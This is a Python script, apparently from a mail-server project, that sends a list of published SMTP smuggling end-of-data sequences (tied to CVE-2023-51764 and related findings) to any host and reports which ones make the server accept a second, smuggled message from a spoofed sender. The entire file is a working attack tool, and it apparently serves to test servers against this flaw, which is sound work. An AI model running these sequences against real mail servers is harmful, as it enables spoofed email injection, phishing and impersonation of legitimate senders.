# SPDX-FileCopyrightText: 2026 mailgate contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Published SMTP smuggling sequences: end-of-data for one server, ordinary content for another.

python3 forms.py HOST PORT RECIPIENT      sends each of them and prints the replies; needs only Python.
"""

from __future__ import annotations

import socket
import sys

# CVE-2023-51764, -51765, -51766 and later findings (Exim, aiosmtpd, Haraka, proxies).
ENDS = (
    b"\n.\n", b"\n.\r\n", b"\r\n.\n", b"\r.\r", b"\r.\r\n", b"\r\n.\r", b"\n.\r", b"\r.\n", b"\r\n\0.\r\n",
    b"\0\r\n.\n", b"\r\r\n.\r\r\n", b"\r\n.\r\r\n", b"\r\n.\0\r\n", b"\x85.\x85",
    b"\r\n\x0b.\r\n", b"\r\n.\x0c\r\n", b"\r\n. \r\n",
)  # fmt: skip


def smuggled(recipient: str, number: int) -> bytes:
    """Return the embedded second message, which no server may accept as a message."""
    return (
        f"MAIL FROM:<evil@sender.example>\r\nRCPT TO:<{recipient}>\r\nDATA\r\n"
        f"Subject: smuggled {number}\r\n\r\nsmuggled\r\n"
    ).encode()


def send(host: str, port: int, recipient: str, number: int, end: bytes) -> str:
    """Send one form; return the reply to the message."""
    with socket.create_connection((host, port), 30) as connection:
        stream = connection.makefile("rb")

        def reply() -> str:
            while (line := stream.readline().decode("ascii", "replace"))[3:4] == "-":
                pass
            return line.strip()

        reply()
        for line in ("EHLO sender.example", "MAIL FROM:<a@sender.example>", f"RCPT TO:<{recipient}>", "DATA"):
            connection.sendall(line.encode() + b"\r\n")
            answer = reply()
            if not answer.startswith(("2", "3")):
                return f"{line.split()[0]}: {answer}"
        connection.sendall(
            f"Subject: outer {number}\r\n\r\ntext".encode() + end + smuggled(recipient, number) + b".\r\n"
        )
        answer = reply()
        connection.sendall(b"QUIT\r\n")
        rest = stream.read().decode("ascii", "replace").splitlines()
        return answer if len(rest) <= 1 else f"{answer}, then {rest}"


def main() -> None:
    """Send all forms and print the replies."""
    host, port, recipient = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    for number, end in enumerate(ENDS):
        print(f"{number:2} {end!r:22} {send(host, port, recipient, number, end)}")


if __name__ == "__main__":
    main()
